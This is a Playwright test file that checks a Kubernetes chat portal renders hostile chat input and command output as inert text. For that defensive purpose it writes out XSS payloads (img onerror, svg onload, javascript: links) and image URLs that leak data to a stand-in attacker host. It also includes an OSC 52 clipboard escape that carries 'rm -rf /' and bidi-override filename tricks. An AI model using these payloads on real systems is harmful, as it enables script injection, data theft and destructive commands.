import { expect, test, type Page } from '@playwright/test';
import { ask, runCommands, signInPortal, watchErrors } from './support.js';

// Attacks (reliability X1–X5): hostile text typed into chat, and hostile text in command output, stays
// inert. Every page has a trap: any dialog, any request to the attacker's host or to `x`, any
// `window.__xss` fails the test.

const ATTACKER = /attacker\.test|\/x$|\/x\?/;

async function armTraps(page: Page) {
  const trapped: string[] = [];
  page.on('dialog', (d) => {
    trapped.push(`dialog: ${d.message()}`);
    void d.dismiss();
  });
  await page.route(ATTACKER, (route) => {
    trapped.push(`request: ${route.request().url()}`);
    return route.abort();
  });
  page.on('request', (r) => {
    if (ATTACKER.test(r.url())) trapped.push(`request: ${r.url()}`);
  });
  return async () => {
    const xss = await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss ?? null);
    if (xss !== null) trapped.push(`window.__xss = ${String(xss)}`);
    return trapped;
  };
}

/** Elements inside the chat's messages (deep, through shadow roots) that an attacker wants to exist. */
function liveMarkup(page: Page) {
  return page.locator('k8s-chat').evaluate((chat) => {
    const found: string[] = [];
    const visit = (root: ParentNode) => {
      for (const el of root.querySelectorAll('*')) {
        const inMessage = el.closest('[part~=message-user], [part~=message-assistant], [part~=message]');
        if (
          inMessage &&
          ['IMG', 'SVG', 'SCRIPT', 'IFRAME', 'OBJECT', 'EMBED'].includes(el.tagName.toUpperCase())
        )
          found.push(el.tagName);
        for (const attr of el.getAttributeNames())
          if (/^on/i.test(attr) && inMessage) found.push(`${el.tagName}[${attr}]`);
        const href = el.getAttribute('href');
        if (href && !/^(https?:|mailto:|#)/i.test(href.trim())) found.push(`${el.tagName}[href=${href}]`);
        if (el.shadowRoot) visit(el.shadowRoot);
      }
    };
    visit(chat.shadowRoot ?? chat);
    return found;
  });
}

const CHAT_ATTACKS = [
  '<img src=x onerror="alert(1);window.__xss=1">',
  '<svg onload="alert(2);window.__xss=2"></svg> list pods',
  '[click me](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>) [vb](vbscript:msgbox(5)) [mixed](JaVaScRiPt&#58;alert(6))',
  '![x](https://attacker.test/p.png?q=secret) and <img src="https://attacker.test/raw.png">',
];

test('X1–X3: hostile HTML, script links and exfiltrating images typed into chat are shown as text', async ({
  page,
}) => {
  const errors = watchErrors(page);
  const traps = await armTraps(page);
  await signInPortal(page, 'bob');
  const composer = page.getByRole('textbox', { name: 'Message' });
  for (const attack of CHAT_ATTACKS) {
    await composer.fill(attack);
    await composer.press('Enter');
    // The text arrives as the person typed it (visible as text), and the assistant has answered.
    await expect(page.locator('k8s-chat [part~=message-user]').last()).toContainText(attack.slice(0, 20));
  }
  await expect(page.locator('k8s-chat [part~=message-user]')).toHaveCount(CHAT_ATTACKS.length);
  await page.waitForTimeout(500);
  expect(await liveMarkup(page)).toEqual([]);
  expect(await traps()).toEqual([]);
  expect(errors).toEqual([]);
});

test('X1/X5: hostile text in real command output (an error echoing the name) stays text in History', async ({
  page,
  baseURL,
}) => {
  // The assistant refuses `<` in requests, but the API runs it: kubectl's error echoes the name back.
  await runCommands(baseURL!, 'alice', ['kubectl get pods "<img src=x onerror=window.__xss=1>" -n prod']);
  const errors = watchErrors(page);
  const traps = await armTraps(page);
  await signInPortal(page, 'alice');
  await page.getByRole('link', { name: 'History' }).click();
  const history = page.locator('#page-history k8s-command-history');
  await history.getByRole('row').filter({ hasText: '<img src=x' }).first().click();
  const dialog = history.getByRole('dialog');
  await expect(dialog).toContainText('pods "<img src=x onerror=window.__xss=1>" not found', {
    timeout: 10_000,
  });
  expect(await dialog.locator('img, script').count()).toBe(0);
  expect(await traps()).toEqual([]);
  expect(errors).toEqual([]);
});

test('X5: ANSI colours, OSC 8 links, OSC 52 clipboard writes and bidi controls in output are defused', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const traps = await armTraps(page);
  await signInPortal(page, 'alice');
  // The sandbox refuses control characters in commands, so the hostile output (what a real cluster's pod
  // could print) is put into the server's answer on its way to the page.
  const hostile = [
    '\x1b[31m<script>window.__xss=1</script>\x1b[0m red',
    '\x1b]8;;javascript:alert(1)\x07click me\x1b]8;;\x07',
    '\x1b]8;;https://example.com/docs\x07docs\x1b]8;;\x07',
    '\x1b]52;c;' + Buffer.from('rm -rf /').toString('base64') + '\x07after clipboard',
    'file \u202Etxt.exe\u202C name',
  ].join('\n');
  await page.route(/\/api\/v1\/commands\/executions\/[^/?]+$/, async (route) => {
    const response = await route.fetch();
    const body = await response.json();
    await route.fulfill({ response, json: { ...body, output: `${hostile}\n${body.output ?? ''}` } });
  });
  await page.evaluate(() => navigator.clipboard.writeText('before'));
  const preview = await ask(page, 'list pods in prod');
  await preview.getByRole('button', { name: 'Run', exact: true }).click();
  const output = preview.locator('k8s-execution-status [part=output]');
  await expect(output).toContainText('after clipboard', { timeout: 15_000 });
  await expect(output).toContainText('<script>window.__xss=1</script>');
  await expect(output).toContainText('U+202E');
  expect(await output.locator('script').count()).toBe(0);
  const hrefs = await output.locator('a').evaluateAll((links) => links.map((a) => a.getAttribute('href')));
  expect(hrefs.every((href) => /^(https?:|mailto:)/.test(href ?? ''))).toBe(true);
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('before');
  expect(await traps()).toEqual([]);
});
